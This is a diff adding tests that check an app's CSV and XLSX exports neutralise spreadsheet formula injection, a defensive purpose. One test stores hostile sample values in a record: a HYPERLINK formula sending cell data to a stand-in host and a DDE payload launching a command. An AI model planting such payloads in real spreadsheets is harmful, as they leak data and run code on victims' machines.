@@ -4,6 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import ExcelJS from '../src/importing/excel.ts';
 import { createTestApp, type TestApp } from './helpers.ts';
 import { csvRows, fileRoutes } from './importHelpers.ts';
+import { openSheet } from '../src/importing/writers.ts';
 
 let t: TestApp;
 let f: ReturnType<typeof fileRoutes>;
@@ -129,5 +130,51 @@ describe('published results', () => {
     expect(byCode.get(targets[1]!.creditCode)![9]).toBe('2031-05-29');
     expect(byCode.get(targets[1]!.creditCode)![11]).toBe('录入错误更正；补充说明');
     expect(byCode.has(targets[2]!.creditCode)).toBe(false);
+  });
+});
+
+describe('formula injection (CSV injection)', () => {
+  const dangerous = ['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
+  const written = async (format: 'csv' | 'xlsx') => {
+    const out = openSheet(format, '注入', ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j']);
+    await out.writer.addRow([...dangerous, 'plain', -5, 0.25, null]);
+    void out.writer.end();
+    return Buffer.from(await new Response(out.body).arrayBuffer());
+  };
+
+  it('quotes text that starts with = + - @ tab or CR in CSV; numbers, negative ones too, stay numbers', async () => {
+    const body = await written('csv');
+    expect(csvRows(body)[1]).toEqual([...dangerous.map((d) => `'${d}`), 'plain', '-5', '0.25', '']);
+    // The number is written bare (Excel reads it as a number), not quoted as text.
+    expect(body.toString('utf8')).toMatch(/,plain,-5,0\.25,\r?\n?$/);
+  });
+
+  it('keeps .xlsx cells strings (never formulas) and numbers numeric', async () => {
+    const body = await written('xlsx');
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(body as never);
+    const row = wb.worksheets[0]!.getRow(2);
+    // (XML reads a bare CR back as LF: no formula either way.)
+    expect(dangerous.map((_, i) => row.getCell(i + 1).value)).toEqual(dangerous.map((d) => d.replace('\r', '\n')));
+    expect(dangerous.map((_, i) => row.getCell(i + 1).type)).toEqual(dangerous.map(() => ExcelJS.ValueType.String));
+    expect(row.getCell(8).value).toBe(-5);
+    expect(row.getCell(8).type).toBe(ExcelJS.ValueType.Number);
+  });
+
+  it('neutralises a target’s hostile name in the export, and the export imports back unchanged', async () => {
+    const unit = await t.prisma.unit.findUniqueOrThrow({ where: { code: 'GTS01' } });
+    const target = await t.prisma.target.findFirstOrThrow({ where: { unitId: unit.id, retiredAt: null }, orderBy: { creditCode: 'asc' } });
+    const hostile = { name: '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")', address: '@SUM(1+1)*cmd|\' /C calc\'!A0', legalRepresentative: '-2+3' };
+    await t.prisma.target.update({ where: { id: target.id }, data: hostile });
+    const res = await f.download(`/export/Target.csv${q({ q: target.creditCode })}`, wenshao);
+    const rows = csvRows(res.body);
+    expect(rows).toHaveLength(2);
+    const cell = (header: string) => rows[1]![rows[0]!.indexOf(header)];
+    expect(cell('名称')).toBe(`'${hostile.name}`);
+    expect(cell('登记住所')).toBe(`'${hostile.address}`);
+    expect(cell('法定代表人')).toBe(`'${hostile.legalRepresentative}`);
+
+    const job = await f.prepare('Target', '导出.csv', res.body, wenshao);
+    expect(job.counts).toMatchObject({ CREATE: 0, UPDATE: 0, REFUSED: 0, UNCHANGED: 1 });
   });
 });
